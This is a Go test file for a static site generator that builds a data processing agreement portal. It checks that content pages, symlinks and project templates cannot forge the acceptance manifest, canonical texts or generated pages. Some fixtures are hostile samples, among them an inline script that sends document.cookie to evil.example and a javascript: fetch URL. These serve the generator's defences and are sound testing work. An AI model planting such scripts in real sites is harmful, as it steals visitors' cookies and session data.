package generator_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/trustportal/trustportal/generator"
	"github.com/trustportal/trustportal/generator/load"
	"github.com/trustportal/trustportal/generator/model"
	"github.com/trustportal/trustportal/generator/release"
	"github.com/trustportal/trustportal/generator/testportal"
)

// furtherPage is a page of content/ in one language, with front matter.
func furtherPage(file, frontMatter string) testportal.Edit {
	return testportal.Edit{File: file, New: "+++\n" + frontMatter + "\n+++\nText of the page.\n\n" +
		"| left | centre | right |\n|:--|:-:|--:|\n| a | b | c |\n\n```go\nfunc main() {}\n```\n"}
}

// pagePair is a further page in both languages.
func pagePair(base, deFront, enFront string) []testportal.Edit {
	return []testportal.Edit{furtherPage(base+".de.md", deFront), furtherPage(base+".en.md", enFront)}
}

// TestCheckFurtherPages: a page of content/ cannot pose as one the generator
// writes, by its front matter or its path.
func TestCheckFurtherPages(t *testing.T) {
	withPair := func(base, front string, more ...testportal.Edit) []testportal.Edit {
		return append(pagePair(base, front, `title = "Page"`), more...)
	}
	tests := []struct {
		name  string
		edits []testportal.Edit
		want  want
	}{
		{
			name:  "url forging the manifest",
			edits: withPair("content/legal/x", "title = \"Seite\"\nurl = \"/api/dpa.json\""),
			want:  want{file: "content/legal/x.de.md", line: 3, field: "url", message: `front matter field "url" is not allowed`},
		},
		{
			name:  "url in another case",
			edits: withPair("content/legal/x", "title = \"Seite\"\nURL = \"/de/dpa/\""),
			want:  want{file: "content/legal/x.de.md", line: 3, field: "URL", message: "is not allowed"},
		},
		{
			name:  "layout",
			edits: withPair("content/legal/x", "title = \"Seite\"\nlayout = \"dpa\""),
			want:  want{file: "content/legal/x.de.md", line: 3, field: "layout", message: "is not allowed"},
		},
		{
			name:  "outputs",
			edits: withPair("content/legal/x", "title = \"Seite\"\noutputs = [\"html\", \"atom\"]"),
			want:  want{file: "content/legal/x.de.md", line: 3, field: "outputs", message: "is not allowed"},
		},
		{
			name:  "params of a generated page",
			edits: withPair("content/legal/x", "title = \"Seite\"\n\n[params.version]\nsha256 = \"0000\""),
			want:  want{file: "content/legal/x.de.md", line: 4, field: "params", message: "is not allowed"},
		},
		{
			name:  "cascade",
			edits: withPair("content/legal/_index", "title = \"Seite\"\n[[cascade]]\nlayout = \"manifest\""),
			want:  want{file: "content/legal/_index.de.md", line: 3, field: "cascade", message: "is not allowed"},
		},
		{
			name:  "slug",
			edits: withPair("content/legal/x", "title = \"Seite\"\nslug = \"dpa\""),
			want:  want{file: "content/legal/x.de.md", field: "slug", message: "is not allowed"},
		},
		{
			name:  "aliases",
			edits: withPair("content/legal/x", "title = \"Seite\"\naliases = [\"/de/dpa/\"]"),
			want:  want{file: "content/legal/x.de.md", field: "aliases", message: "is not allowed"},
		},
		{
			name:  "wrong type of an allowed field",
			edits: withPair("content/legal/x", "title = \"Seite\"\nweight = \"10\""),
			want:  want{file: "content/legal/x.de.md", line: 3, field: "weight", message: "must be a whole number"},
		},
		{
			name:  "no title",
			edits: withPair("content/legal/x", `description = "Eine Seite"`),
			want:  want{file: "content/legal/x.de.md", field: "title", message: "page has no title"},
		},
		{
			name: "YAML front matter",
			edits: []testportal.Edit{{File: "content/legal/x.de.md", New: "---\ntitle: Seite\nurl: /api/dpa.json\n---\n"},
				furtherPage("content/legal/x.en.md", `title = "Page"`)},
			want: want{file: "content/legal/x.de.md", line: 1, message: "no front matter"},
		},
		{
			name: "JSON front matter",
			edits: []testportal.Edit{{File: "content/legal/x.de.md", New: "{\"title\": \"Seite\", \"url\": \"/api/dpa.json\"}\n"},
				furtherPage("content/legal/x.en.md", `title = "Page"`)},
			want: want{file: "content/legal/x.de.md", line: 1, message: "no front matter"},
		},
		{
			name:  "HTML content file",
			edits: []testportal.Edit{{File: "content/legal/x.de.html", New: "<script>alert(1)</script>"}},
			want:  want{file: "content/legal/x.de.html", message: "not a Markdown page"},
		},
		{
			name:  "other file in content",
			edits: []testportal.Edit{{File: "content/legal/dpa.json", New: "{}"}},
			want:  want{file: "content/legal/dpa.json", message: "not a Markdown page"},
		},
		{
			name:  "page without a language",
			edits: []testportal.Edit{furtherPage("content/legal/x.md", `title = "Page"`)},
			want:  want{file: "content/legal/x.md", message: "has no language"},
		},
		{
			name:  "page in one language only",
			edits: []testportal.Edit{furtherPage("content/legal/x.de.md", `title = "Seite"`)},
			want:  want{file: "content/legal/x.de.md", message: "page has no English version"},
		},
		{
			name:  "page in the manifest's section",
			edits: pagePair("content/api/x", `title = "Seite"`, `title = "Page"`),
			want:  want{file: "content/api/x.de.md", message: "published at /de/api/x/, inside /de/api/ (the acceptance manifest)"},
		},
		{
			name:  "page in the version archive",
			edits: pagePair("content/versions/_index", `title = "Seite"`, `title = "Page"`),
			want:  want{file: "content/versions/_index.en.md", message: "published at /en/versions/, inside /en/versions/"},
		},
		{
			name:  "page among the comparisons",
			edits: pagePair("content/diff/1.0/2.0", `title = "Seite"`, `title = "Page"`),
			want:  want{file: "content/diff/1.0/2.0.de.md", message: "inside /de/diff/ (the comparisons of versions)"},
		},
		{
			name:  "page named like a generated section",
			edits: pagePair("content/Subprocessors", `title = "Seite"`, `title = "Page"`),
			want:  want{file: "content/Subprocessors.de.md", message: "inside /de/subprocessors/"},
		},
		{
			name:  "page in a generated section the build ignored",
			edits: pagePair("content/toms/extra", `title = "Seite"`, `title = "Page"`),
			want:  want{file: "content/toms/extra.de.md", message: "inside /de/toms/"},
		},
		{
			name:  "page in a directory named like a language",
			edits: pagePair("content/de/dpa/x", `title = "Seite"`, `title = "Page"`),
			want:  want{file: "content/de/dpa/x.en.md", message: "published at /en/de/dpa/x/, where it would pose as the portal's /de/dpa/x/"},
		},
		{
			name:  "home page as a leaf bundle",
			edits: pagePair("content/index", `title = "Seite"`, `title = "Page"`),
			want:  want{file: "content/index.de.md", message: "the home page /de/"},
		},
		{
			name:  "static file replacing the manifest",
			edits: []testportal.Edit{{File: "static/api/dpa.json", New: `{"current": null}`}},
			want:  want{file: "static/api/dpa.json", message: "published at /api/dpa.json, inside /api/ (the acceptance manifest)"},
		},
		{
			name:  "static file replacing a canonical text",
			edits: []testportal.Edit{{File: "static/de/dpa/2.0/dpa-2.0.de.txt", New: "forged"}},
			want:  want{file: "static/de/dpa/2.0/dpa-2.0.de.txt", message: "inside /de/dpa/ (the DPA)"},
		},
		{
			name:  "static file replacing the home page",
			edits: []testportal.Edit{{File: "static/en/index.html", New: "<p>forged</p>"}},
			want:  want{file: "static/en/index.html", message: "the home page /en/"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			list := checkProblems(t, tt.edits...)
			for _, p := range list {
				if tt.want.matches(p) {
					if p.Hint == "" {
						t.Errorf("problem without a hint: %s", p.Error())
					}
					return
				}
			}
			t.Errorf("no problem matches %+v; got:\n%v", tt.want, list)
		})
	}
}

// TestFurtherPagesArePublishedWhereTheLoaderSays: pages with the allowed
// front matter build, at the path load.PageURL computes.
func TestFurtherPagesArePublishedWhereTheLoaderSays(t *testing.T) {
	front := "title = \"%s\"\nlinkTitle = \"Kurz\"\ndescription = \"Beschreibung\"\nsummary = \"Zusammenfassung\"\n" +
		"keywords = [\"a\", \"b\"]\ndate = 2026-01-02\nlastmod = 2026-02-03\nweight = 5\ndraft = false"
	var edits []testportal.Edit
	files := []string{"content/legal/_index", "content/legal/Imprint Notes", "content/about/index", "content/about us"}
	for _, f := range files {
		edits = append(edits, pagePair(f, strings.ReplaceAll(front, "%s", "Seite"), strings.ReplaceAll(front, "%s", "Page"))...)
	}
	src := testportal.Copy(t, testportal.Minimal(t), edits...)
	out := filepath.Join(t.TempDir(), "public")
	if err := generator.Build(generator.Options{Source: src, Out: out}); err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		for _, lang := range model.DefaultLanguages {
			rel := strings.TrimPrefix(f, "content/") + "." + string(lang) + ".md"
			u := load.PageURL(rel, lang)
			doc := testportal.HTML(t, filepath.Join(out, filepath.FromSlash(u), "index.html"))
			if got := doc.Find("h1").Text(); got != map[model.Lang]string{model.DE: "Seite", model.EN: "Page"}[lang] {
				t.Errorf("%s at %s: h1 %q", rel, u, got)
			}
			// Hugo's tables and highlighted code come without inline
			// styles, which the Content-Security-Policy would block.
			if n := doc.Find("[style], style").Length(); n > 0 {
				t.Errorf("%s: %d inline styles", rel, n)
			}
			if got := attrs(doc.Find("main td"), "class"); strings.Join(got, " ") != "align-left align-center align-right" {
				t.Errorf("%s: table cells %q", rel, got)
			}
		}
	}
}

// TestSymlinksAreRefused: no file is read, published or released through a
// symbolic link, whether it leads out of the project or not.
func TestSymlinksAreRefused(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "secret.md")
	if err := os.WriteFile(outside, []byte("+++\ntitle = \"Secret\"\n+++\nNot for publication.\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, link, target string // target "" links to outside
	}{
		{"home page to a file outside", "content/_index.de.md", ""},
		{"further page to a file outside", "content/legal/x.de.md", ""},
		{"clause to a file outside", "content/dpa/scope.de.md", ""},
		{"data file to a file outside", "data/processor.toml", ""},
		{"strings", "i18n/de.toml", ""},
		{"static directory", "static/files", filepath.Dir(outside)},
		{"layouts directory", "layouts", filepath.Dir(outside)},
		{"link within the project", "content/dpa/security.en.md", "security.de.md"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := testportal.Copy(t, testportal.Minimal(t))
			link := filepath.Join(src, filepath.FromSlash(tt.link))
			os.RemoveAll(link)
			os.MkdirAll(filepath.Dir(link), 0o755)
			target := tt.target
			if target == "" {
				target = outside
			}
			if err := os.Symlink(target, link); err != nil {
				t.Fatal(err)
			}
			wantErr := tt.link + ": is a symbolic link"
			if err := generator.Check(src); err == nil || !strings.Contains(err.Error(), wantErr) {
				t.Errorf("check: %v, want %q", err, wantErr)
			}
			out := filepath.Join(t.TempDir(), "public")
			if err := generator.Build(generator.Options{Source: src, Out: out}); err == nil || !strings.Contains(err.Error(), wantErr) {
				t.Errorf("build: %v, want %q", err, wantErr)
			}
			if _, err := os.Stat(out); err == nil {
				t.Error("build published a site")
			}
			_, err := generator.Release(src, release.Request{Version: "1.0", Effective: model.NewDate(2026, 1, 1), Today: model.NewDate(2026, 1, 1)})
			if err == nil || !strings.Contains(err.Error(), wantErr) {
				t.Errorf("release: %v, want %q", err, wantErr)
			}
			if _, err := os.Stat(filepath.Join(src, "data", "releases")); err == nil {
				t.Error("release wrote data/releases")
			}
		})
	}
}

// TestTemplatesCannotForge: a project's layouts can change how pages look,
// but not the acceptance manifest or a canonical text, not make a feed link
// elsewhere, and not run inline script.
func TestTemplatesCannotForge(t *testing.T) {
	b := build(t, testportal.Root(t))
	manifest, err := os.ReadFile(filepath.Join(b.out, "api", "dpa.json"))
	if err != nil {
		t.Fatal(err)
	}
	text := filepath.Join("de", "dpa", "2.0", "dpa-2.0.de.txt")
	canonical, err := os.ReadFile(filepath.Join(b.out, text))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		edit testportal.Edit
		want string // "" for a build that succeeds with the generator's files
	}{
		{"manifest template", testportal.Edit{File: "layouts/manifest.json",
			New: `{"current": {"version": "2.0", "languages": {"de": {"url": "javascript:fetch('http://evil.example/')", "sha256": "0000000000000000000000000000000000000000000000000000000000000000"}}}}`}, ""},
		{"canonical text published by a template", testportal.Edit{File: "layouts/_partials/footer.html",
			New: `{{ with resources.FromString "de/dpa/2.0/dpa-2.0.de.txt" "forged" }}{{ .Publish }}{{ end }}<footer></footer>`}, ""},
		{"feed linking elsewhere", testportal.Edit{File: "layouts/_partials/feed.atom.xml",
			New: `<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><link rel="alternate" href="https://evil.example/"/></feed>`},
			`feed links to "https://evil.example/"`},
		{"inline script in a template", testportal.Edit{File: "layouts/_partials/footer.html",
			New: `<footer><script>fetch("https://evil.example/?" + document.cookie)</script></footer>`}, "inline <script>"},
		{"page without the policy", testportal.Edit{File: "layouts/_partials/head.html",
			New: `<head><meta charset="utf-8"><title>{{ .Title }}</title></head>`}, `has no <meta http-equiv="Content-Security-Policy"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := testportal.Copy(t, testportal.Root(t), tt.edit)
			out := filepath.Join(t.TempDir(), "public")
			err := generator.Build(generator.Options{Source: src, Out: out, Today: today})
			if tt.want != "" {
				if err == nil || !strings.Contains(err.Error(), tt.want) {
					t.Errorf("build: %v, want %q", err, tt.want)
				}
				return
			}
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			for name, want := range map[string][]byte{filepath.Join("api", "dpa.json"): manifest, text: canonical} {
				if got, _ := os.ReadFile(filepath.Join(out, name)); string(got) != string(want) {
					t.Errorf("%s is not the generator's:\n%.300s", name, got)
				}
			}
		})
	}
}

// TestFurtherPagesKeepTheirOwnHeadings: a further page is the project's own
// prose; Hugo gives its headings ids from their words, which differ between
// the languages ("kontakt", "contact"). Only the generated pages must carry
// the same anchors in every language.
func TestFurtherPagesKeepTheirOwnHeadings(t *testing.T) {
	src := testportal.Copy(t, testportal.Minimal(t),
		testportal.Edit{File: "content/contact.de.md", New: "+++\ntitle = \"Kontakt\"\n+++\n\n## Schreiben Sie uns\n\nText.\n"},
		testportal.Edit{File: "content/contact.en.md", New: "+++\ntitle = \"Contact\"\n+++\n\n## Write to us\n\nText.\n\n## Call us\n\nText.\n"})
	out := filepath.Join(t.TempDir(), "public")
	if err := generator.Build(generator.Options{Source: src, Out: out}); err != nil {
		t.Fatal(err)
	}
	for lang, want := range map[string]int{"de": 1, "en": 2} {
		doc := testportal.HTML(t, filepath.Join(out, lang, "contact", "index.html"))
		if got := doc.Find("main h2[id]").Length(); got != want {
			t.Errorf("%s: %d headings with ids, want %d", lang, got, want)
		}
	}
}
